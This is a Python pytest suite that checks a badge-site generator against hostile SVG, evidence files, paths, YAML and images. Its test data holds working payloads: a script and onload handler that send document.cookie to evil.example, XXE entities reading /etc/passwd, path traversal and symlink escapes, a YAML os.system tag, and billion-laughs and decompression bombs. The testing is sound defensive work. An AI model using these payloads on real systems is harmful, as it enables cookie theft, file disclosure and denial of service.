"""Hostile content: SVG, evidence files, paths and links, YAML and images (issue #11, part A).

Each case is a real scratch repository; `Attack` states its exact outcome (see conftest.py).
"""

from __future__ import annotations

import base64
import io

import pytest
from PIL import Image

from badgegen.content import limits
from tests.conftest import AWARD_ID, BASE_FILES, ScratchRepo, png_bytes
from tests.hostile.conftest import (
    OUTSIDE,
    Attack,
    AttackRunner,
    assert_outcome,
    png_chunk,
    png_claiming,
    png_header,
)

BADGE = "content/badges/first-steps.md"
BADGE_IMAGE = "content/badges/images/first-steps.svg"
ISSUER = "content/issuers/atelier.md"
AWARD = "content/awards/2025/camille-first-steps.yml"
EARNER = "content/earners/camille.yml"
EVIDENCE = "content/evidence/photo.png"
PUBLISHED_SVG = "badges/first-steps/image.svg"
BAKED_SVG = f"awards/{AWARD_ID}/badge.svg"
# Lines: badge front matter 4 image; award 5 narrative, 7 `- file:`; SVG line 1 is <svg …>.


def edit(path: str, old: str, new: str) -> dict[str, str | bytes | None]:
    text = BASE_FILES[path]
    assert isinstance(text, str) and old in text
    return {path: text.replace(old, new, 1)}


def svg(body: str, attrs: str = "") -> str:
    """A badge SVG: the root on line 1, `body` from line 2, a green circle after it."""
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'viewBox="0 0 256 256"{attrs}>\n{body}\n'
        '<circle cx="128" cy="128" r="120" fill="#2a7"/>\n</svg>\n'
    )


def data_url(kind: str, data: bytes) -> str:
    return f"data:{kind};base64,{base64.b64encode(data).decode()}"


def badge_png(data: bytes) -> dict[str, str | bytes | None]:
    """The badge drawn as a PNG file (`images/first-steps.png`) holding `data`."""
    return {
        **edit(BADGE, "first-steps.svg", "first-steps.png"),
        BADGE_IMAGE: None,
        "content/badges/images/first-steps.png": data,
    }


def evidence(name: str, data: bytes | str) -> dict[str, str | bytes | None]:
    """The award's evidence is `content/evidence/<name>` holding `data`."""
    return {
        **edit(AWARD, "evidence/photo.png", f"evidence/{name}"),
        f"content/evidence/{name}": data,
    }


def compressed_bomb() -> bytes:
    """A real 12000×12000 PNG of a few kB: 144 million pixels, 1.3 GB once decoded as RGBA."""
    buffer = io.BytesIO()
    Image.new("1", (12000, 12000)).save(buffer, "PNG", optimize=False)
    return buffer.getvalue()


def jpeg_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), "#a52").save(buffer, "JPEG")
    return buffer.getvalue()


SVG_OUTSIDE = "an SVG may only link to its own parts (#id) and embed PNG, JPEG, GIF or WebP pictures as data: URLs"
CSS_OUTSIDE = "points outside the SVG"
REFUSED_TYPE = "is not a picture, sound, video, PDF or plain text"
OUTSIDE_CONTENT = "is outside the content folder (through '..' or a symbolic link)"


def nested_use(levels: int, fan: int) -> str:
    """Each group draws the previous one `fan` times: fan**levels circles from a few lines."""
    groups = ['<g id="g0"><circle r="1"/></g>']
    for level in range(1, levels + 1):
        uses = "".join(f'<use href="#g{level - 1}"/>' for _ in range(fan))
        groups.append(f'<g id="g{level}">{uses}</g>')
    return "<defs>" + "".join(groups) + f'</defs><use href="#g{levels}"/>'


SVG_ATTACKS = {
    "svg-script-element-removed": Attack(
        {BADGE_IMAGE: svg("<script>alert(document.cookie)</script>")},
        warnings=(f"{BADGE_IMAGE}:2: warning: <script> removed from the published SVG",),
        absent=(b"<script", b"document.cookie"),
        present=((PUBLISHED_SVG, b"<circle"), (BAKED_SVG, b"<circle")),
    ),
    "svg-onload-attribute-removed": Attack(
        {BADGE_IMAGE: svg("", ' onload="fetch(`//evil.example/`+document.cookie)"')},
        warnings=(
            f"{BADGE_IMAGE}:1: warning: the onload attribute removed from the published SVG",
        ),
        absent=(b"onload", b"evil.example"),
    ),
    "svg-event-handlers-on-many-elements-removed": Attack(
        {
            BADGE_IMAGE: svg(
                '<rect width="9" height="9" onclick="steal()"/>\n<g onmouseover="steal()"/>'
            )
        },
        warnings=(
            f"{BADGE_IMAGE}:2: warning: the onclick attribute and 1 more unsafe parts removed "
            "from the published SVG",
        ),
        absent=(b"onclick", b"onmouseover", b"steal()"),
    ),
    "svg-foreignobject-html-removed": Attack(
        {
            BADGE_IMAGE: svg(
                '<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" '
                'src="javascript:alert(1)"/></foreignObject>'
            )
        },
        warnings=(
            f"{BADGE_IMAGE}:2: warning: <foreignObject> and 1 more unsafe parts removed from the "
            "published SVG",
        ),
        absent=(b"foreignObject", b"iframe", b"javascript:"),
    ),
    "svg-set-and-animate-of-handlers-removed": Attack(
        {
            BADGE_IMAGE: svg(
                '<set attributeName="onmouseover" to="alert(1)"/>\n'
                '<animate attributeName="href" values="javascript:alert(1)"/>'
            )
        },
        warnings=(
            f"{BADGE_IMAGE}:2: warning: <set> of onmouseover and 1 more unsafe parts removed "
            "from the published SVG",
        ),
        absent=(b"attributeName", b"onmouseover"),
    ),
    "svg-javascript-link-refused": Attack(
        {BADGE_IMAGE: svg('<a href="javascript:alert(1)"><text>Go</text></a>')},
        refused=(f"{BADGE_IMAGE}:2: <a> links to 'javascript:alert(1)': {SVG_OUTSIDE}",),
    ),
    "svg-image-absolute-local-file-refused": Attack(
        {BADGE_IMAGE: svg('<image href="/etc/hostname" width="10" height="10"/>')},
        refused=(f"{BADGE_IMAGE}:2: <image> links to '/etc/hostname': {SVG_OUTSIDE}",),
    ),
    "svg-image-parent-folder-file-refused": Attack(
        {
            BADGE_IMAGE: svg(
                '<image xlink:href="../../../outside/secret.png" width="9" height="9"/>'
            )
        },
        refused=(
            f"{BADGE_IMAGE}:2: <image> links to '../../../outside/secret.png': {SVG_OUTSIDE}",
        ),
    ),
    "svg-image-tracking-pixel-refused": Attack(
        {
            BADGE_IMAGE: svg(
                '<image href="https://evil.example/t.png?who=me" width="1" height="1"/>'
            )
        },
        refused=(
            f"{BADGE_IMAGE}:2: <image> links to 'https://evil.example/t.png?who=me': {SVG_OUTSIDE}",
        ),
    ),
    "svg-use-of-external-file-refused": Attack(
        {BADGE_IMAGE: svg('<use href="other.svg#shape"/>')},
        refused=(f"{BADGE_IMAGE}:2: <use> links to 'other.svg#shape': {SVG_OUTSIDE}",),
    ),
    "svg-embedded-svg-data-url-refused": Attack(
        {BADGE_IMAGE: svg(f'<image href="{data_url("image/svg+xml", b"<svg/>")}"/>')},
        refused=(
            f"{BADGE_IMAGE}:2: <image> links to 'data:image/svg+xml;base64,PHN2Zy8+': {SVG_OUTSIDE}",
        ),
    ),
    "svg-embedded-png-pixel-bomb-refused": Attack(
        {BADGE_IMAGE: svg(f'<image href="{data_url("image/png", png_claiming(5000, 5000))}"/>')},
        refused=(
            f"{BADGE_IMAGE}:2: an embedded picture: the picture is 5000×5000 pixels (25,000,000), "
            "more than the limit of 16,777,216",
        ),
    ),
    "svg-embedded-small-png-kept": Attack(
        {
            BADGE_IMAGE: svg(
                f'<image width="64" height="64" href="{data_url("image/png", png_bytes(8, 8))}"/>'
            )
        },
        present=((PUBLISHED_SVG, b'href="data:image/png;base64,'),),
    ),
    "svg-css-url-in-style-element-refused": Attack(
        {BADGE_IMAGE: svg("<style>circle { fill: url(https://evil.example/track) }</style>")},
        refused=(f"{BADGE_IMAGE}:2: CSS url('https://evil.example/track') {CSS_OUTSIDE}",),
    ),
    "svg-css-url-split-by-a-character-reference-refused": Attack(
        {BADGE_IMAGE: svg("<style>circle { fill: ur&#108;(https://evil.example/t) }</style>")},
        refused=(f"{BADGE_IMAGE}:2: CSS url('https://evil.example/t') {CSS_OUTSIDE}",),
    ),
    "svg-css-url-deep-in-a-long-style-element-refused-at-its-line": Attack(
        {
            BADGE_IMAGE: svg(
                "<style>\ncircle { fill: #2a7 }\nrect {\n  fill: url(https://evil.example/t)\n}\n</style>"
            )
        },
        refused=(f"{BADGE_IMAGE}:5: CSS url('https://evil.example/t') {CSS_OUTSIDE}",),
    ),
    "svg-css-url-in-style-attribute-refused": Attack(
        {BADGE_IMAGE: svg('<rect width="9" height="9" style="fill: url(\'//evil.example/t\')"/>')},
        refused=(f"{BADGE_IMAGE}:2: CSS url('//evil.example/t') {CSS_OUTSIDE}",),
    ),
    "svg-url-in-presentation-attribute-refused": Attack(
        {BADGE_IMAGE: svg('<rect width="9" height="9" fill="url(/etc/passwd#x)"/>')},
        refused=(f"{BADGE_IMAGE}:2: CSS url('/etc/passwd#x') {CSS_OUTSIDE}",),
    ),
    "svg-css-import-refused": Attack(
        {BADGE_IMAGE: svg('<style>@import "https://evil.example/x.css";</style>')},
        refused=(f"{BADGE_IMAGE}:2: @import is not allowed in an SVG's styles",),
    ),
    "svg-css-image-set-tracking-refused": Attack(
        {
            BADGE_IMAGE: svg(
                '<style>svg { background: image-set("https://evil.example/t" 1x) }</style>'
            )
        },
        refused=(
            f"{BADGE_IMAGE}:2: image-set() and src() are not allowed in an SVG's styles: they "
            "load pictures from elsewhere",
        ),
    ),
    "svg-css-escape-refused": Attack(
        {BADGE_IMAGE: svg("<style>circle { fill: u\\72l(https://evil.example/t) }</style>")},
        refused=(f"{BADGE_IMAGE}:2: CSS escapes (\\) are not allowed in an SVG's styles",),
    ),
    "svg-fragment-references-kept": Attack(
        {
            BADGE_IMAGE: svg(
                '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
                '<circle id="dot" r="4"/></defs>\n<use href="#dot" x="20"/>'
                '<rect width="9" height="9" style="fill:url(#g)"/>'
            )
        },
        present=((PUBLISHED_SVG, b'href="#dot"'), (BAKED_SVG, b"url(#g)")),
    ),
    "svg-billion-laughs-entities-refused": Attack(
        {
            BADGE_IMAGE: '<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY a "lol">\n'
            + "".join(
                f'<!ENTITY {n} "{("&" + p + ";") * 10}">\n'
                for p, n in zip("abcdefgh", "bcdefghi", strict=True)
            )
            + ']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&i;</text></svg>\n'
        },
        refused=(
            f"{BADGE_IMAGE}:2: the SVG declares a DTD with its own definitions (<!DOCTYPE svg [ … ]>)",
        ),
    ),
    "svg-external-entity-reading-a-file-refused": Attack(
        {
            BADGE_IMAGE: '<?xml version="1.0"?>\n<!DOCTYPE svg [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>\n'
            '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>\n'
        },
        refused=(
            f"{BADGE_IMAGE}:2: the SVG declares a DTD with its own definitions (<!DOCTYPE svg [ … ]>)",
        ),
    ),
    "svg-parameter-entity-refused": Attack(
        {
            BADGE_IMAGE: '<!DOCTYPE svg [ <!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; ]>\n'
            '<svg xmlns="http://www.w3.org/2000/svg"/>\n'
        },
        refused=(
            f"{BADGE_IMAGE}:1: the SVG declares a DTD with its own definitions (<!DOCTYPE svg [ … ]>)",
        ),
    ),
    "svg-standard-doctype-accepted-and-dropped": Attack(
        {
            BADGE_IMAGE: '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + svg("")
        },
        absent=(b"DOCTYPE", b"svg11.dtd"),
    ),
    "svg-use-fan-out-refused": Attack(
        {BADGE_IMAGE: svg(nested_use(levels=7, fan=10))},
        refused=(
            f"{BADGE_IMAGE}:2: the SVG's <use> references expand to more than "
            f"{limits.MAX_SVG_RENDERED_ELEMENTS} elements",
        ),
    ),
    "svg-use-chain-too-deep-refused": Attack(
        {BADGE_IMAGE: svg(nested_use(levels=12, fan=1))},
        refused=(
            f"{BADGE_IMAGE}:2: references (<use>, url(#…)) are chained more than "
            f"{limits.MAX_SVG_USE_DEPTH} deep",
        ),
    ),
    "svg-use-loop-refused": Attack(
        {BADGE_IMAGE: svg('<g id="a"><use href="#b"/></g>\n<g id="b"><use href="#a"/></g>')},
        refused=(f"{BADGE_IMAGE}:2: the reference to #b loops back on itself",),
    ),
    "svg-too-many-elements-refused": Attack(
        {BADGE_IMAGE: svg("<g/>" * (limits.MAX_SVG_ELEMENTS + 1))},
        refused=(f"{BADGE_IMAGE}:2: the SVG has more than {limits.MAX_SVG_ELEMENTS} elements",),
    ),
    "svg-nesting-too-deep-refused": Attack(
        {BADGE_IMAGE: svg("<g>" * 100 + "</g>" * 100)},
        refused=(f"{BADGE_IMAGE}:2: the SVG nests elements more than {limits.MAX_SVG_DEPTH} deep",),
    ),
    "svg-larger-than-the-limit-refused": Attack(
        {BADGE_IMAGE: svg("<!--" + "x" * (limits.MAX_IMAGE_BYTES + 1) + "-->")},
        refused=(
            f"{BADGE}:4: images/first-steps.svg: the file is 5 MB, more than the limit of 5 MB",
        ),
    ),
    "svg-html-page-named-svg-refused": Attack(
        {
            BADGE_IMAGE: '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
        },
        refused=(f"{BADGE_IMAGE}:1: the root element is not <svg> in the SVG namespace",),
    ),
    "svg-xml-stylesheet-instruction-dropped": Attack(
        {BADGE_IMAGE: '<?xml-stylesheet href="https://evil.example/x.css"?>\n' + svg("")},
        absent=(b"xml-stylesheet", b"evil.example"),
    ),
    "svg-xml-base-to-elsewhere-dropped": Attack(
        {
            BADGE_IMAGE: svg(
                '<circle id="dot" r="3"/><use href="#dot"/>', ' xml:base="https://evil.example/"'
            )
        },
        absent=(b"xml:base", b"evil.example"),
        present=((PUBLISHED_SVG, b'href="#dot"'),),
    ),
    "svg-filter-image-from-elsewhere-refused": Attack(
        {BADGE_IMAGE: svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>')},
        refused=(
            f"{BADGE_IMAGE}:2: <feImage> links to 'https://evil.example/x.png': {SVG_OUTSIDE}",
        ),
    ),
    "svg-cursor-url-refused": Attack(
        {BADGE_IMAGE: svg('<circle r="9" cursor="url(https://evil.example/c.png), auto"/>')},
        refused=(f"{BADGE_IMAGE}:2: CSS url('https://evil.example/c.png') {CSS_OUTSIDE}",),
    ),
    "svg-web-font-from-elsewhere-refused": Attack(
        {
            BADGE_IMAGE: svg(
                "<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>"
            )
        },
        refused=(f"{BADGE_IMAGE}:2: CSS url('https://evil.example/f.woff') {CSS_OUTSIDE}",),
    ),
    "svg-empty-drawing-baked": Attack(
        {BADGE_IMAGE: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"/>'},
        present=((BAKED_SVG, b"<openbadges:assertion"),),
    ),
    "issuer-svg-with-script-made-safe": Attack(
        {
            **edit(ISSUER, "kind: organization", "kind: organization\nimage: logo.svg"),
            "content/issuers/logo.svg": svg("<script>fetch('https://evil.example/x')</script>"),
        },
        warnings=("content/issuers/logo.svg:2: warning: <script> removed from the published SVG",),
        absent=(b"<script", b"evil.example"),
        present=(("issuers/atelier/image.svg", b"<circle"),),
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", SVG_ATTACKS.values(), ids=SVG_ATTACKS.keys())
def test_svg_attack(attack: AttackRunner, case: Attack) -> None:
    attack(case)


EVIDENCE_ATTACKS = {
    "evidence-html-page-refused": Attack(
        evidence("page.html", "<html><script>alert(document.domain)</script></html>"),
        refused=(
            f"{AWARD}:7: evidence/page.html: .html files are not published as evidence: browsers "
            "run the scripts they may hold, on the site's own address",
        ),
    ),
    "evidence-xhtml-page-refused": Attack(
        evidence(
            "page.xhtml",
            '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
        ),
        refused=(
            f"{AWARD}:7: evidence/page.xhtml: .xhtml files are not published as evidence: "
            "browsers run the scripts they may hold, on the site's own address",
        ),
    ),
    "evidence-svg-with-script-refused": Attack(
        evidence("drawing.svg", svg("<script>alert(1)</script>")),
        refused=(
            f"{AWARD}:7: evidence/drawing.svg: .svg files are not published as evidence: "
            "browsers run the scripts they may hold, on the site's own address",
        ),
    ),
    "evidence-html-named-jpg-refused": Attack(
        evidence("photo.jpg", "<!doctype html><script>alert(1)</script>"),
        refused=(f"{AWARD}:7: evidence/photo.jpg: the evidence file's content {REFUSED_TYPE}",),
    ),
    "evidence-html-named-txt-refused": Attack(
        evidence("notes.txt", "<html><body onload=alert(1)>notes</body></html>"),
        refused=(
            f"{AWARD}:7: evidence/notes.txt: the text file holds HTML or XML markup, which "
            "browsers may run",
        ),
    ),
    "evidence-script-tag-inside-text-refused": Attack(
        evidence("notes.md", "# Notes\n\nfine until <script>alert(1)</script>\n"),
        refused=(
            f"{AWARD}:7: evidence/notes.md: the text file holds HTML or XML markup, which "
            "browsers may run",
        ),
    ),
    "evidence-png-named-pdf-refused": Attack(
        evidence("report.pdf", png_bytes()),
        refused=(
            f"{AWARD}:7: evidence/report.pdf: the file is named .pdf but its content is image/png",
        ),
    ),
    "evidence-zip-archive-refused": Attack(
        evidence("bundle.zip", b"PK\x03\x04" + b"\x00" * 60),
        refused=(
            f"{AWARD}:7: evidence/bundle.zip: the evidence file is application/zip, which is not "
            "published: only pictures, sound, video, PDF and plain text are",
        ),
    ),
    "evidence-executable-named-png-refused": Attack(
        evidence("photo2.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 120),
        refused=(
            f"{AWARD}:7: evidence/photo2.png: the evidence file is application/x-executable, which "
            "is not published: only pictures, sound, video, PDF and plain text are",
        ),
    ),
    "evidence-truncated-jpeg-refused": Attack(
        evidence("photo.jpg", jpeg_bytes()[:300]),
        refused=(f"{AWARD}:7: evidence/photo.jpg: the picture is damaged (Truncated File Read)",),
    ),
    "evidence-pixel-bomb-refused": Attack(
        evidence("huge.png", png_claiming(20000, 20000)),
        refused=(
            f"{AWARD}:7: evidence/huge.png: the picture has far more pixels than the limit of "
            f"{limits.MAX_EVIDENCE_PIXELS:,} (a decompression bomb)",
        ),
    ),
    "evidence-larger-than-the-limit-refused": Attack(
        {},
        sparse={EVIDENCE: limits.MAX_EVIDENCE_BYTES + 1},
        refused=(
            f"{AWARD}:7: evidence/photo.png: the file is 100 MB, more than the limit of 100 MB",
        ),
    ),
    "evidence-named-pipe-refused-without-blocking": Attack(
        {EVIDENCE: None},
        fifos=(EVIDENCE,),
        refused=(f"{AWARD}:7: evidence file not found: evidence/photo.png",),
    ),
    "evidence-plain-text-published": Attack(
        evidence("notes.txt", "Compte rendu : 3 < 5, tout va bien.\n"),
        present=(("files/evidence/notes.txt", b"3 < 5"),),
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", EVIDENCE_ATTACKS.values(), ids=EVIDENCE_ATTACKS.keys())
def test_evidence_attack(attack: AttackRunner, case: Attack) -> None:
    attack(case)


PATH_ATTACKS = {
    "badge-image-dot-dot-outside-the-repository-refused": Attack(
        edit(BADGE, "images/first-steps.svg", "../../../outside/secret.svg"),
        refused=(f"{BADGE}:4: '../../../outside/secret.svg' {OUTSIDE_CONTENT}",),
    ),
    "badge-image-dot-dot-outside-content-refused": Attack(
        {**edit(BADGE, "images/first-steps.svg", "../../README.svg"), "README.svg": svg("")},
        refused=(f"{BADGE}:4: '../../README.svg' {OUTSIDE_CONTENT}",),
    ),
    "badge-image-absolute-path-refused": Attack(
        edit(BADGE, "images/first-steps.svg", "/etc/hostname"),
        refused=(f"{BADGE}:4: image: '/etc/hostname' must be a relative path with / separators",),
    ),
    "badge-image-windows-path-refused": Attack(
        edit(BADGE, "images/first-steps.svg", "'C:\\Users\\x.svg'"),
        refused=(
            f"{BADGE}:4: image: 'C:\\\\Users\\\\x.svg' must be a relative path with / separators",
        ),
    ),
    "badge-image-nul-byte-refused": Attack(
        edit(BADGE, "images/first-steps.svg", '"images/first-steps.svg\\0.png"'),
        refused=(
            f"{BADGE}:4: image: 'images/first-steps.svg\\x00.png' holds a control character; "
            "write the file's name as it is",
        ),
    ),
    "badge-image-symlink-to-outside-refused": Attack(
        {BADGE_IMAGE: None},
        links={BADGE_IMAGE: f"{OUTSIDE}/secret.svg"},
        refused=(f"{BADGE}:4: 'images/first-steps.svg' {OUTSIDE_CONTENT}",),
    ),
    "issuer-image-symlink-to-outside-refused": Attack(
        edit(ISSUER, "kind: organization", "kind: organization\nimage: logo.png"),
        links={"content/issuers/logo.png": f"{OUTSIDE}/secret.png"},
        refused=(f"{ISSUER}:5: 'logo.png' {OUTSIDE_CONTENT}",),
    ),
    "badge-image-symlinked-folder-to-outside-refused": Attack(
        edit(BADGE, "images/first-steps.svg", "linked/secret.svg"),
        links={"content/badges/linked": OUTSIDE},
        refused=(
            f"{BADGE}:4: 'linked/secret.svg' {OUTSIDE_CONTENT}",
            "content/badges/linked: this folder is a symbolic link to a folder outside the "
            "repository: nothing in it is read",
        ),
    ),
    "badge-image-symlink-inside-content-accepted": Attack(
        {BADGE_IMAGE: None, "content/badges/images/drawn.svg": svg("")},
        links={BADGE_IMAGE: "drawn.svg"},
        present=((PUBLISHED_SVG, b"<circle"),),
    ),
    "evidence-dot-dot-outside-refused": Attack(
        edit(AWARD, "evidence/photo.png", "evidence/../../outside/secret.png"),
        refused=(
            f"{AWARD}:7: evidence file 'evidence/../../outside/secret.png' is outside the content "
            "folder",
        ),
    ),
    "evidence-into-git-folder-refused": Attack(
        {**edit(AWARD, "evidence/photo.png", "../.git/config"), ".git/config": "[core]\n"},
        refused=(f"{AWARD}:7: evidence file '../.git/config' is outside the content folder",),
    ),
    "evidence-absolute-path-refused": Attack(
        edit(AWARD, "evidence/photo.png", "/etc/passwd"),
        refused=(f"{AWARD}:7: file: '/etc/passwd' must be a relative path with / separators",),
    ),
    "evidence-symlink-to-outside-refused": Attack(
        {EVIDENCE: None},
        links={EVIDENCE: f"{OUTSIDE}/secret.png"},
        refused=(f"{AWARD}:7: evidence file 'evidence/photo.png' is outside the content folder",),
    ),
    "record-symlink-to-outside-refused": Attack(
        {},
        links={"content/earners/eve.yml": f"{OUTSIDE}/secret.yml"},
        refused=(
            "content/earners/eve.yml: this record is a symbolic link to a file outside the "
            "repository",
        ),
    ),
    "record-folder-symlink-to-outside-refused": Attack(
        {},
        links={"content/awards/2026": OUTSIDE},
        refused=(
            "content/awards/2026: this folder is a symbolic link to a folder outside the "
            "repository: nothing in it is read",
        ),
    ),
    "record-symlink-loop-ignored": Attack(
        {},
        links={"content/earners/loop.yml": "loop.yml"},
    ),
}


@pytest.mark.parametrize("case", PATH_ATTACKS.values(), ids=PATH_ATTACKS.keys())
def test_path_attack(attack: AttackRunner, case: Attack) -> None:
    attack(case)


def laughs(levels: int) -> str:
    lines = ["lol0: &l0 lol"]
    lines += [f"lol{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]" for n in range(1, levels)]
    return "\n".join(lines) + "\n"


YAML_ATTACKS = {
    "yaml-billion-laughs-refused": Attack(
        {EARNER: "name: Camille Martin\n" + laughs(9)},
        refused=(
            f"{EARNER}:2: anchors and aliases (&name, *name) are not allowed in content files",
        ),
    ),
    "yaml-single-alias-refused": Attack(
        edit(AWARD, "narrative: Camille sent her first email.", "narrative: &n Camille\nx: *n"),
        refused=(
            f"{AWARD}:5: anchors and aliases (&name, *name) are not allowed in content files",
        ),
    ),
    "yaml-merge-key-alias-refused": Attack(
        {EARNER: "base: &b {name: Camille}\n<<: *b\n"},
        refused=(
            f"{EARNER}:1: anchors and aliases (&name, *name) are not allowed in content files",
        ),
    ),
    "yaml-alias-in-front-matter-refused": Attack(
        edit(BADGE, "image_alt: A green circle", "image_alt: &alt A green circle\nx: *alt"),
        refused=(
            f"{BADGE}:5: anchors and aliases (&name, *name) are not allowed in content files",
        ),
    ),
    "yaml-flow-nesting-1000-deep-refused": Attack(
        edit(
            AWARD,
            "narrative: Camille sent her first email.",
            "narrative: " + "[" * 1000 + "]" * 1000,
        ),
        refused=(
            f"{AWARD}:5: the fields are nested more than {limits.MAX_YAML_DEPTH} levels deep",
        ),
    ),
    "yaml-block-nesting-deep-refused": Attack(
        {
            EARNER: "name: Camille\n"
            + "".join("  " * n + f"k{n}:\n" for n in range(40))
            + "  " * 40
            + "v\n"
        },
        refused=(
            f"{EARNER}:17: the fields are nested more than {limits.MAX_YAML_DEPTH} levels deep",
        ),
    ),
    "yaml-control-character-refused": Attack(
        edit(AWARD, "Camille sent her", "Camille\x07 sent her"),
        refused=(
            f"{AWARD}:5: the file contains a character YAML does not allow (#x0007): "
            "special characters are not allowed",
        ),
    ),
    "yaml-nul-byte-refused": Attack(
        {EARNER: b"name: Camille\nbio: a\x00b\n"},
        refused=(
            f"{EARNER}:2: the file contains a character YAML does not allow (#x0000): "
            "special characters are not allowed",
        ),
    ),
    "yaml-python-object-tag-refused": Attack(
        {EARNER: 'name: !!python/object/apply:os.system ["touch pwned"]\n'},
        refused=(
            f"{EARNER}:1: YAML syntax error: could not determine a constructor for the tag "
            "'tag:yaml.org,2002:python/object/apply:os.system'",
        ),
    ),
    "yaml-record-larger-than-the-limit-refused": Attack(
        {EARNER: "name: Camille\nbio: " + "x" * limits.MAX_RECORD_BYTES + "\n"},
        refused=(f"{EARNER}: the file is 256 kB, more than the limit of 256 kB for a record",),
    ),
    "yaml-invalid-utf8-refused": Attack(
        {EARNER: b"name: Camille\nbio: caf\xe9 \xff\n"},
        refused=(f"{EARNER}:2: not UTF-8 text (invalid continuation byte)",),
    ),
    "yaml-non-text-key-refused": Attack(
        {EARNER: "name: Camille\n? [a, b]\n: c\n"},
        refused=(
            f"{EARNER}:2: YAML syntax error: while constructing a mapping found unhashable key",
        ),
    ),
    "markdown-criteria-nested-2000-lists-refused": Attack(
        edit(BADGE, "Send an email with an attachment to your trainer.", "- " * 2000 + "x"),
        refused=(
            f"{BADGE}:9: the criteria cannot be rendered: the text nests lists or quotes more "
            f"than {limits.MAX_MARKDOWN_NESTING} deep",
        ),
    ),
    "markdown-narrative-50000-brackets-refused": Attack(
        edit(AWARD, "narrative: Camille sent her first email.", "narrative: '" + "[" * 50000 + "'"),
        refused=(
            f"{AWARD}:5: narrative cannot be rendered: the text has more than "
            f"{limits.MAX_MARKDOWN_BRACKETS} '[' characters",
        ),
    ),
    "markdown-bio-numbered-list-bomb-refused": Attack(
        {EARNER: "name: Camille Martin\nbio: '" + "1. " * 1000 + "x'\n"},
        refused=(
            f"{EARNER}:2: bio cannot be rendered: the text nests lists or quotes more than "
            f"{limits.MAX_MARKDOWN_NESTING} deep",
        ),
    ),
    "markdown-deep-quotes-in-issuer-text-refused": Attack(
        edit(ISSUER, "A small digital workshop.", "intro\n\n" + ">" * 500 + " x"),
        refused=(
            f"{ISSUER}:8: the description cannot be rendered: the text nests lists or quotes "
            f"more than {limits.MAX_MARKDOWN_NESTING} deep",
        ),
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", YAML_ATTACKS.values(), ids=YAML_ATTACKS.keys())
def test_yaml_attack(attack: AttackRunner, case: Attack) -> None:
    attack(case)


IMAGE_ATTACKS = {
    "png-pixel-bomb-30000-refused": Attack(
        badge_png(png_claiming(30000, 30000)),
        refused=(
            f"{BADGE}:4: images/first-steps.png: the picture has far more pixels than the limit "
            f"of {limits.MAX_IMAGE_PIXELS:,} (a decompression bomb)",
        ),
    ),
    "png-12000-square-compressed-bomb-refused": Attack(
        badge_png(compressed_bomb()),
        refused=(
            f"{BADGE}:4: images/first-steps.png: the picture has far more pixels than the limit "
            f"of {limits.MAX_IMAGE_PIXELS:,} (a decompression bomb)",
        ),
    ),
    "png-just-over-the-pixel-limit-refused": Attack(
        badge_png(png_claiming(4097, 4096)),
        refused=(
            f"{BADGE}:4: images/first-steps.png: the picture is 4097×4096 pixels (16,781,312), "
            f"more than the limit of {limits.MAX_IMAGE_PIXELS:,}",
        ),
    ),
    "png-truncated-refused": Attack(
        badge_png(png_bytes(64, 64)[:-30]),
        refused=(
            f"{BADGE}:4: images/first-steps.png: the picture is damaged (Truncated File Read)",
        ),
    ),
    "png-bad-crc-refused": Attack(
        badge_png(png_bytes(64, 64)[:29] + b"\x00\x00\x00\x00" + png_bytes(64, 64)[33:]),
        refused=(
            f"{BADGE}:4: images/first-steps.png: the picture is damaged (cannot identify "
            "image file)",
        ),
    ),
    "png-header-only-refused": Attack(
        badge_png(png_header(64, 64)),
        refused=(
            f"{BADGE}:4: images/first-steps.png: the picture is damaged (cannot identify image file)",
        ),
    ),
    "png-garbage-pixels-refused": Attack(
        badge_png(
            png_header(64, 64) + png_chunk(b"IDAT", b"not zlib data") + png_chunk(b"IEND", b"")
        ),
        refused=(
            f"{BADGE}:4: images/first-steps.png: the picture is damaged (broken data stream "
            "when reading image file)",
        ),
    ),
    "png-zero-width-refused": Attack(
        badge_png(png_claiming(0, 64)),
        refused=(
            f"{BADGE}:4: images/first-steps.png: the picture is damaged (cannot identify "
            "image file)",
        ),
    ),
    "png-cut-inside-the-last-chunk-refused": Attack(
        badge_png(png_bytes(24, 24)[:-2]),
        refused=(f"{BADGE}:4: images/first-steps.png: the PNG file is damaged: truncated chunk",),
    ),
    "png-larger-than-the-limit-refused": Attack(
        badge_png(png_bytes()),
        sparse={"content/badges/images/first-steps.png": limits.MAX_IMAGE_BYTES + 1},
        refused=(
            f"{BADGE}:4: images/first-steps.png: the file is 5 MB, more than the limit of 5 MB",
        ),
    ),
    "issuer-png-truncated-refused": Attack(
        {
            **edit(ISSUER, "kind: organization", "kind: organization\nimage: logo.png"),
            "content/issuers/logo.png": png_bytes(64, 64)[:60],
        },
        refused=(f"{ISSUER}:5: logo.png: the picture is damaged (Truncated File Read)",),
    ),
    "svg-named-png-refused": Attack(
        badge_png(svg("").encode()),
        refused=(f"{BADGE}:4: images/first-steps.png: this is an SVG image; name the file .svg",),
    ),
    "png-named-svg-refused": Attack(
        {BADGE_IMAGE: png_bytes()},
        refused=(
            f"{BADGE_IMAGE}:1: the SVG file is not valid XML (not well-formed (invalid token))",
        ),
